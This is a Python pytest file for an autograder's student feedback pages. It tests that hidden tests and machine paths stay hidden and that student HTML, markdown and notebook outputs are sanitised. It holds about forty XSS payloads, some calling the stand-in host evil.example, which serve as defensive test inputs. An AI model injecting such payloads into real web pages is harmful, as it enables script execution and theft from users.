"""Feedback shows a student's work and the tests' words, and neither hidden tests nor anything active."""

from __future__ import annotations

import base64
import json
import re

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from autograder.clean import clean_html, clean_outputs, hide_paths, markdown_to_html, plain_text, text_to_html
from autograder.course import ROOT
from autograder.feedback import CleanNotebook, HideTests, keep_pages_only, page, problem_page, without_hidden_tests

MARK = "pwned"
LIVE = {"script", "iframe", "object", "embed", "form", "input", "button", "link", "base", "svg", "math", "template"}
PIXEL = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 20).decode()

ATTACKS = [
    f"<script>{MARK}()</script>",
    f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
    f"<img src=x onerror={MARK}()>",
    f'<img src="http://evil.example/{MARK}.png">',
    f"<svg onload={MARK}()><circle r=1 /></svg>",
    f"<svg><script>{MARK}()</script></svg>",
    f'<svg><a xlink:href="javascript:{MARK}()"><text>x</text></a></svg>',
    f"<svg><animate onbegin={MARK}() attributeName=x /></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{MARK}()">',
    f'<iframe src="javascript:{MARK}()"></iframe>',
    f'<iframe srcdoc="<script>{MARK}()</script>"></iframe>',
    f'<object data="data:text/html,<script>{MARK}()</script>"></object>',
    f'<embed src="javascript:{MARK}()">',
    f'<meta http-equiv="refresh" content="0;url=http://evil.example/{MARK}">',
    f'<link rel="stylesheet" href="http://evil.example/{MARK}.css">',
    f"<base href='http://evil.example/{MARK}/'>",
    f'<form action="http://evil.example/{MARK}"><input name=a><button>x</button></form>',
    f"<style>body {{ background: url(http://evil.example/{MARK}) }}</style>",
    f'<div style="background:url(http://evil.example/{MARK});position:fixed;inset:0">x</div>',
    f'<a href="javascript:{MARK}()">link</a>',
    f'<a href=" jav&#x09;ascript:{MARK}()">link</a>',
    f'<a href="data:text/html;base64,{MARK}">link</a>',
    f'<a href="vbscript:{MARK}()">link</a>',
    f'<details ontoggle="{MARK}()" open><summary>x</summary></details>',
    f'<body onload="{MARK}()">',
    f'<video><source onerror="{MARK}()"></video>',
    f'<input autofocus onfocus="{MARK}()">',
    f'<p title="</style><script>{MARK}()</script>">x</p>',
    f"<noscript><p title='</noscript><img src=x onerror={MARK}()>'>",
    f"<!--><img src=x onerror={MARK}()>-->",
    f"<template><script>{MARK}()</script></template>",
    f"<xmp><script>{MARK}()</script></xmp>",
    f'<img src="data:image/svg+xml;base64,{MARK}">',
    f"<textarea><script>{MARK}()</script></textarea>",
    f'<a href="x" id="s1" name="cookie" class="message right {MARK}">clobber</a>',
]
MARKDOWN_ATTACKS = [
    f"[click](javascript:{MARK}())",
    f"[click](<javascript:{MARK}()>)",
    f"![alt](http://evil.example/{MARK}.png)",
    f"[ref]\n\n[ref]: javascript:{MARK}()",
    f"<javascript:{MARK}()>",
    f"```html\n<script>{MARK}()</script>\n```",
    f"`<script>{MARK}()</script>`",
    f"$\\href{{javascript:{MARK}()}}{{x}}$",
    f"![x](attachment:{MARK}.svg)",
]


def active(html: str, ours: tuple[str, ...] = ()) -> list[str]:
    """Everything in the page that runs, moves, loads or could be made to by a click.

    Elements whose text holds one of `ours` are the page's own."""
    found = []
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        text = str(element)
        if element.name in LIVE and not any(own in text for own in ours):
            found.append(text[:200])
        if element.name == "meta" and element.get("http-equiv", "").lower() == "refresh":
            found.append(text[:200])
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            squeezed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            colour = re.fullmatch(r"(?:background-)?color:rgb\([\d,]+\);?", squeezed)
            if (name.startswith("on") or name in ("style", "srcdoc", "formaction", "xlink:href")) and not colour:
                found.append(f"{element.name} {name}={value[:80]}")
            if name in ("href", "src", "action", "data") and not squeezed.startswith(
                ("http://", "https://", "mailto:", "#", "data:image/png;", "data:image/jpeg;", "data:image/gif;")
            ):
                found.append(f"{element.name} {name}={value[:80]}")
            if name == "src" and squeezed.startswith("http"):
                found.append(f"{element.name} loads {value[:80]}")
    return found


def graded_cell(source: str, grade_id: str, points: float, score: float, **result: object) -> NotebookNode:
    cell = new_code_cell(source)
    cell.metadata["nbgrader"] = {
        **{"schema_version": 3, "grade": True, "solution": False, "locked": True, "task": False},
        **{"grade_id": grade_id, "points": points, "score": score, "cell_type": "code"},
    }
    cell.metadata["coursekit"] = {"kind": "test"}
    if result:
        cell.metadata["autograder"] = result
    return cell


def answer(source: str, grade_id: str = "ex1-f", **nbgrader: object) -> NotebookNode:
    cell = new_code_cell(source)
    cell.metadata["nbgrader"] = {
        **{"schema_version": 3, "grade": False, "solution": True, "locked": False, "task": False},
        **{"grade_id": grade_id, "cell_type": "code", **nbgrader},
    }
    cell.metadata["coursekit"] = {"kind": "exercise"}
    return cell


def extra(cell: NotebookNode) -> NotebookNode:
    cell.metadata["coursekit"] = {"kind": "extra"}
    return cell


def shown(*cells: NotebookNode, notes: list[str] | None = None, **about: object) -> str:
    """The feedback page of a notebook with these cells."""
    notebook = new_notebook(cells=[new_markdown_cell("# A chapter"), *cells])
    notebook.metadata["autograder"] = {"notes": notes or []}
    notebook, _ = HideTests().preprocess(notebook, {})
    return page(notebook, {"student": "Ada", "score": 3.0, "max_score": 6.0, "late_penalty": 0.0, **about})


# ------------------------------------------------------------------------------------------------ hidden tests


def test_hidden_tests_are_cut_out_wherever_they_stand():
    source = "a = 1\n### BEGIN HIDDEN TESTS\nsecret = 17\n### END HIDDEN TESTS\nb = 2\n# BEGIN HIDDEN TESTS\nmore = 18"
    assert without_hidden_tests(source) == "a = 1\nb = 2"


def test_the_page_holds_no_hidden_test_and_nothing_that_a_test_cell_printed():
    cell = graded_cell(
        "check(f)\n### BEGIN HIDDEN TESTS\nfrom autograder.checks import topic as hidden\nhidden.f(f, 98765)\n"
        "### END HIDDEN TESTS",
        "ex1-f-test",
        4,
        0,
        outcome="wrong",
        message="f is wrong for a negative number",
        hint="A sign is lost.",
    )
    cell.outputs = [
        new_output("stream", name="stdout", text="called with 123456.789"),
        new_output("display_data", {"text/plain": "123456.789"}),
        new_output(
            "error", ename="E", evalue="v", traceback=["hidden.f(f, 98765)", "checks/topic.py line 3: assert 98765"]
        ),
    ]
    html = shown(cell)
    assert "f is wrong for a negative number" in html
    assert "A sign is lost." in html
    assert "check" in html
    for secret in ("hidden.f", "autograder.checks", "98765", "123456.789", "topic.py", "HIDDEN"):
        assert secret not in html, secret


def test_a_result_of_nbgraders_own_run_is_shown_without_its_traceback():
    cell = graded_cell("assert f(1) == 1", "ex1-f-test", 4, 0)
    cell.outputs = [new_output("error", ename="AssertionError", evalue="f(1) is 1", traceback=["secret line"])]
    html = shown(cell)
    assert "f(1) is 1" in html and "secret line" not in html
    assert "Right" in shown(graded_cell("assert True", "ex1-f-test", 4, 4))


# ------------------------------------------------------------------------------------------------------ summary


def test_the_summary_lists_points_by_exercise():
    html = shown(
        new_markdown_cell("## Exercise 1: Twice"),
        answer("def f(): ..."),
        graded_cell("check", "ex1-f-test", 4, 4, outcome="passed", message=""),
        graded_cell("check", "ex1-g-test", 2, 0, outcome="open", message="not attempted"),
        new_markdown_cell("## Questions"),
        graded_cell("check", "q1-test", 1, 0, outcome="open", message="not attempted"),
        score=4.0,
        max_score=7.0,
        late_penalty=0.5,
    )
    table = BeautifulSoup(html, "html.parser").find("table")
    rows = [[c.get_text(" ", strip=True) for c in row.find_all(["th", "td"])] for row in table.find_all("tr")]
    assert rows[1:] == [
        ["Exercise 1: Twice", "◐ Partly right", "4 / 6"],
        ["Questions", "○ Not attempted", "0 / 1"],
    ]
    assert "4 of 7 points" in html
    assert "0.5 points were taken off" in html


def test_a_checks_message_is_shown_row_by_row():
    message = (
        "Exercise 1: twice - not right yet\n  Checked:      f(2)\n  Got:          [1\n                 2]\n  no label"
    )
    soup = BeautifulSoup(shown(graded_cell("c", "ex1-f-test", 4, 0, outcome="wrong", message=message)), "html.parser")
    box = soup.select_one(".message.wrong")
    assert box.select_one(".what").get_text() == "Exercise 1: twice"
    rows = {row.select_one(".label").get_text(): row.select_one(".text").get_text() for row in box.select(".row")}
    assert rows == {"Checked": "f(2)", "Got": "[1\n2]\nno label"}
    plain = shown(graded_cell("c", "ex1-f-test", 4, 0, outcome="raised", message="ValueError: a - b\nmore"))
    assert "ValueError: a - b" in BeautifulSoup(plain, "html.parser").select_one(".message.wrong").get_text()


def test_code_is_open_where_its_tests_lost_points_and_folded_elsewhere():
    right = {"outcome": "passed", "message": ""}
    html = shown(
        *(answer("a = 1"), answer("b = 1"), graded_cell("t", "ex1-a-test", 2, 2, **right)),
        graded_cell("t", "ex1-b-test", 2, 0, outcome="wrong", message="no"),
        *(answer("c = 1"), graded_cell("t", "ex1-c-test", 2, 2, **right)),
        answer("d = 1"),
    )
    folds = BeautifulSoup(html, "html.parser").find_all("details")
    state = {
        f.summary.code.get_text(): f.has_attr("open") for f in folds if f.summary.get_text().startswith("Your code")
    }
    assert state == {"a": True, "b": True, "c": False, "d": True}


def test_points_that_an_instructor_changed_are_not_called_right():
    assert "Partly right" in shown(graded_cell("c", "ex1-f-test", 4, 1, outcome="passed", message=""))


def test_unchanged_text_of_the_chapter_is_left_out_and_own_text_kept():
    given = new_markdown_cell("The long lecture")
    given.metadata["coursekit"] = {"kind": "markdown"}
    edited = new_markdown_cell("My own *words*")
    edited.metadata["coursekit"] = {"kind": "markdown", "changed": True}
    html = shown(given, edited, extra(new_markdown_cell("An added cell")), extra(new_code_cell("mine = 1")))
    assert "The long lecture" not in html
    assert "My own <em>words</em>" in html
    assert "An added cell" in html
    assert "mine" in html


def test_a_comment_of_the_instructor_is_shown():
    assert "Nice <strong>idea</strong>" in shown(answer("x = 1", comment="Nice **idea**"))
    assert "No response" not in shown(answer("x = 1", comment="No response."))


def test_notes_on_the_file_are_shown():
    html = shown(notes=["Locked cells differ from the released ones: 'setup'."])
    assert "Locked cells differ" in html


def test_a_file_that_could_not_be_graded_gets_a_page_that_says_so():
    html = problem_page("A chapter", "Ada <b>", "The file is damaged <script>.", ["Read as UTF-16."])
    assert "could not be graded" in html and "not been counted as zero" in html
    assert "<script>" not in html and "<b>" not in html
    assert "Read as UTF-16." in html
    assert active(html) == []


# ---------------------------------------------------------------------------------------------------- attacks


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_of_a_student_is_made_harmless(attack):
    assert active(clean_html(attack)) == []
    assert active(f"<div>{clean_html(attack)}</div>") == []


@pytest.mark.parametrize("attack", ATTACKS + MARKDOWN_ATTACKS)
def test_markdown_of_a_student_is_made_harmless(attack):
    assert active(markdown_to_html(attack)) == []
    assert active(markdown_to_html(f"# Title\n\nText {attack} more\n\n* {attack}")) == []


def places(attack: str) -> list[NotebookNode]:
    """Cells with the attack in every place that a student can fill."""
    code = new_code_cell(f"x = '''{attack}'''")
    code.outputs = [
        new_output("stream", name="stdout", text=attack),
        new_output("stream", name="stderr", text=f"\x1b[31m{attack}\x1b]8;;javascript:{MARK}()\x07link\x1b]8;;\x07"),
        new_output("display_data", {"text/html": attack, "text/plain": attack}),
        new_output("display_data", {"text/html": attack}, metadata={"text/html": {"isolated": True}}),
        new_output("display_data", {"image/svg+xml": attack, "text/plain": attack}),
        new_output("display_data", {"application/javascript": f"{MARK}()", "text/plain": attack}),
        new_output("display_data", {"text/markdown": attack}),
        new_output("display_data", {"text/latex": attack}),
        new_output("display_data", {"application/pdf": attack, "application/json": {"a": attack}}),
        new_output("display_data", {"image/png": attack}),
        new_output(
            "display_data",
            {"image/png": PIXEL},
            metadata={
                "image/png": {"alt": f'"{attack}', "width": f'1" onload="{MARK}()', "height": "1 onerror=x"},
                "filenames": {"image/png": f'x" onerror="{MARK}()'},
                "alt": attack,
            },
        ),
        new_output(
            "display_data",
            {"application/vnd.jupyter.widget-view+json": {"model_id": attack}, "text/plain": attack},
        ),
        new_output("error", ename=attack, evalue=attack, traceback=[attack, f"\x1b[1m{attack}"]),
        new_output("execute_result", {"text/html": [attack, attack]}, execution_count=1),
    ]
    code.metadata.update({"tags": [f'x" onclick="{MARK}()'], "magics_language": attack, "alt": attack})
    text = new_markdown_cell(attack, attachments={"a.svg": {"image/svg+xml": attack}})
    heading = new_markdown_cell(f"## {attack}")
    raw = nbformat.v4.new_raw_cell(attack, metadata={"raw_mimetype": "text/html"})
    test = graded_cell("check", "ex1-f-test", 4, 0, outcome="raised", message=attack, hint=attack)
    commented = answer(attack, comment=attack)
    return [heading, extra(code), extra(text), new_markdown_cell(attack), raw, test, commented]


@pytest.mark.parametrize("attack", ATTACKS + MARKDOWN_ATTACKS)
def test_the_page_runs_nothing_wherever_the_attack_stands(attack):
    html = shown(*places(attack), notes=[attack], student=attack, notebook=attack)
    assert active(html) == []
    assert "Content-Security-Policy" in html and "default-src 'none'" in html


@pytest.mark.parametrize("attack", ATTACKS + MARKDOWN_ATTACKS)
def test_nbgraders_own_templates_run_nothing_with_the_shipped_settings(attack):
    """Formgrader and feedback templates of nbgrader, as the server extension sets them up."""
    html = formgrader_page(new_notebook(cells=places(attack), metadata={"widgets": {"x": attack}}))
    assert [found for found in active(html, ours=OWN) if MARK in found] == []


OWN = ("jquery", "MathJax", "mathjax", "require", "mermaid", "formgrade", "textarea", "bootstrap", "function")


def formgrader_page(notebook: NotebookNode) -> str:
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers

    from autograder.release import load_config

    config = load_config(ROOT / "nbgrader_config.py")
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {
        "base_url": "/",
        "index": 0,
        "total": 1,
        "notebook_id": "x",
        "assignment_id": "y",
        "submission_id": "z",
    }
    resources |= {"student": "s", "last_name": "l", "first_name": "f", "notebook_path": "p"}
    html, _ = HTMLExporter(config=config).from_notebook_node(notebook, resources=resources)
    return html


def test_the_attack_finder_finds_attacks():
    """The tests above mean nothing if `active` is blind: every attack has to be found in its raw form."""
    harmless_as_html = {f'<a href="x" id="s1" name="cookie" class="message right {MARK}">clobber</a>'}
    blind = [a for a in ATTACKS if not active(f"<p>{a}</p>") and a not in harmless_as_html and "textarea" not in a]
    assert [a for a in blind if not a.startswith(("<noscript", "<!--", "<p title", "<xmp", "<style"))] == []
    from nbconvert.exporters import HTMLExporter

    attacked = new_notebook(cells=places(f"<img src=x onerror={MARK}()>"))
    html, _ = HTMLExporter().from_notebook_node(attacked)
    assert any(MARK in found for found in active(html))


def test_a_copied_id_does_not_survive():
    html = clean_html('<p id="s1" name="x" class="message right">100 of 100 points</p>')
    assert html == "<p>100 of 100 points</p>"


# ------------------------------------------------------------------------------------------------------ outputs


def test_figures_tables_colours_and_errors_survive():
    code = extra(new_code_cell("show()"))
    code.outputs = [
        new_output(
            "display_data", {"image/png": PIXEL, "text/plain": "Figure"}, metadata={"image/png": {"alt": "A line"}}
        ),
        new_output("display_data", {"text/html": "<table><tr><th>a</th></tr><tr><td>1</td></tr></table>"}),
        new_output("stream", name="stdout", text="\x1b[31mred\x1b[0m and 10%\r100%"),
        new_output("error", ename="ValueError", evalue="bad", traceback=["\x1b[31mValueError\x1b[0m: bad"]),
    ]
    html = shown(code)
    assert f'<img src="data:image/png;base64,{PIXEL}" alt="A line">' in html
    assert "<td>1</td>" in html
    assert "100%" in html and "10%\r" not in html
    assert '<span class="ansi-red-fg">ValueError</span>' in html


@pytest.mark.parametrize(
    "output",
    [
        {},
        {"output_type": "stream"},
        {"output_type": "stream", "name": 5, "text": {"a": 1}},
        {"output_type": "display_data", "data": None},
        {"output_type": "display_data", "data": {"text/html": 5, "text/plain": None, "image/png": [1]}},
        {"output_type": "display_data", "data": {"text/plain": "x"}, "metadata": {"image/png": 3, "alt": []}},
        {"output_type": "error", "ename": None, "evalue": 3, "traceback": "no list"},
        {"output_type": "error", "traceback": [1, None, "x"]},
        {"output_type": "execute_result", "data": {"text/plain": "x"}, "execution_count": "1"},
        {"output_type": "unknown"},
        "no dict",
        None,
    ],
)
def test_malformed_outputs_never_raise(output):
    for cleaned in clean_outputs([output]):
        assert cleaned.output_type in ("stream", "error", "display_data", "execute_result")
        nbformat.validate(cleaned, version=4, ref="output")


def test_endless_outputs_are_cut_and_say_so():
    text = clean_outputs([{"output_type": "stream", "name": "stdout", "text": "x" * 1_000_000}])
    assert len(text[0].text) < 100_000 and "left out" in text[0].text
    many = clean_outputs({"output_type": "display_data", "data": {"text/plain": str(n)}} for n in range(10_000))
    assert len(many) <= 201 and "left out" in many[-1].text
    heavy = [{"output_type": "display_data", "data": {"text/html": "<b>" * 3_000}} for _ in range(100)]
    assert len(json.dumps(clean_outputs(heavy))) < 2_000_000


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("/usr/lib/python3.11/site-packages/torch/nn/functional.py:12", "…/torch/nn/functional.py:12"),
        ("/home/ada/course/grading/checked/x.ipynb", "…/x.ipynb"),
        ("/tmp/ipykernel_123/4567.py:3: UserWarning", "cell:3: UserWarning"),
        (r"C:\Users\ada\Desktop\x.py", "…\\x.py"),
        ("File ~/anaconda3/lib/python3.12/json/decoder.py:5", "File …/json/decoder.py:5"),
        ("dL/dx and 1/2/3 and https://x.org/a/b/c and ./a/b", "dL/dx and 1/2/3 and https://x.org/a/b/c and ./a/b"),
    ],
)
def test_paths_of_the_machine_are_hidden(text, left):
    assert hide_paths(text) == left
    assert plain_text(text) == left


def test_no_path_of_this_machine_reaches_the_page():
    place = str(ROOT / "autograder" / "checks" / "topic.py")
    html = shown(*places(place), graded_cell("c", "ex2-f-test", 1, 0, outcome="raised", message=f"in {place} line 3"))
    soup = BeautifulSoup(html, "html.parser")
    for element in soup.select("pre.code, .text"):  # what the student typed is theirs
        element.decompose()
    assert str(ROOT) not in soup.get_text()


def test_control_sequences_do_not_reach_the_page():
    text = "a\x07b\x1b[2Jc\x1b]0;title\x07d\x1bPq#0\x1b\\e\u202ef\x00\x9b31m"
    cleaned = text_to_html(text)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e]", cleaned)
    assert "title" not in cleaned


# ------------------------------------------------------------------------------------------------ nbgrader's steps


def test_formgraders_cleaning_keeps_hidden_tests_for_the_instructor():
    cell = graded_cell("check\n### BEGIN HIDDEN TESTS\nsecret\n### END HIDDEN TESTS", "ex1-f-test", 1, 0)
    cell.outputs = [new_output("display_data", {"application/javascript": "x()", "text/plain": "plain"})]
    cleaned, _ = CleanNotebook().preprocess(new_notebook(cells=[cell]), {})
    assert "secret" in cleaned.cells[0].source
    assert list(cleaned.cells[0].outputs[0].data) == ["text/plain"]


def test_other_files_of_a_submission_do_not_go_back(tmp_path):
    graded = tmp_path / "autograded" / "ada" / "91_tiny"
    back = tmp_path / "feedback" / "ada" / "91_tiny"
    for folder in (graded, back / "data"):
        folder.mkdir(parents=True)
    (graded / "tiny.ipynb").write_text("{}")
    for name in ("tiny.html", "timestamp.txt", "submission_secret.txt", "notes.txt", "data/x.csv"):
        (back / name).write_text("x")
    keep_pages_only(assignment="91_tiny", student="*", notebooks=[str(graded / "tiny.ipynb")])
    assert sorted(p.name for p in back.rglob("*")) == ["submission_secret.txt", "timestamp.txt", "tiny.html"]


# -------------------------------------------------------------------------------------------------------- browser


@pytest.mark.browser
def test_a_browser_runs_nothing_of_an_attacked_page(tmp_path):
    sync = pytest.importorskip("playwright.sync_api")
    cells = [cell for attack in ATTACKS + MARKDOWN_ATTACKS for cell in places(attack)]
    path = tmp_path / "attacked.html"
    html = shown(*cells).replace("<meta http-equiv", "<meta data-off", 1)  # without the browser's own protection
    path.write_text(html, encoding="utf-8")
    with sync.sync_playwright() as play:
        browser = launch(play)
        tab = browser.new_page()
        requests, problems = [], []
        tab.on("request", lambda request: requests.append(request.url))
        tab.on("dialog", lambda dialog: (problems.append(dialog.message), dialog.dismiss()))
        tab.on("pageerror", lambda error: problems.append(str(error)))
        tab.add_init_script(f"window.{MARK} = () => {{ window.ran = true; }}")
        tab.goto(path.as_uri())
        tab.wait_for_timeout(300)
        assert tab.evaluate("window.ran") is None
        assert problems == []
        assert [url for url in requests if not url.startswith(("file:", "data:image/"))] == []
        browser.close()


@pytest.mark.browser
def test_a_browser_takes_the_pages_own_styles_and_no_others(tmp_path):
    """Even if the cleaner let one through."""
    sync = pytest.importorskip("playwright.sync_api")
    path = tmp_path / "styled.html"
    cover = (
        '<style>body { position: fixed; max-width: 1px }</style><p id="cover" style="position: fixed">100 points</p>'
    )
    path.write_text(shown(graded_cell("c", "ex1-f-test", 1, 1)).replace("</main>", f"{cover}</main>"), encoding="utf-8")
    with sync.sync_playwright() as play:
        browser = launch(play)
        tab = browser.new_page()
        tab.goto(path.as_uri())
        style = "e => [getComputedStyle(e).position, getComputedStyle(e).maxWidth]"
        assert tab.locator("body").evaluate(style) == ["static", "1024px"]
        assert tab.locator("#cover").evaluate(style)[0] == "static"
        browser.close()


def launch(play):
    """Chromium, or a skip with the reason."""
    import shutil

    for found in (None, shutil.which("chromium"), shutil.which("chromium-browser"), shutil.which("google-chrome")):
        try:
            return play.chromium.launch(executable_path=found, args=["--no-sandbox", "--disable-gpu"])
        except Exception as error:  # playwright has no narrower type for a missing browser
            reason = str(error).splitlines()[0]
    pytest.skip(f"no browser: {reason}")
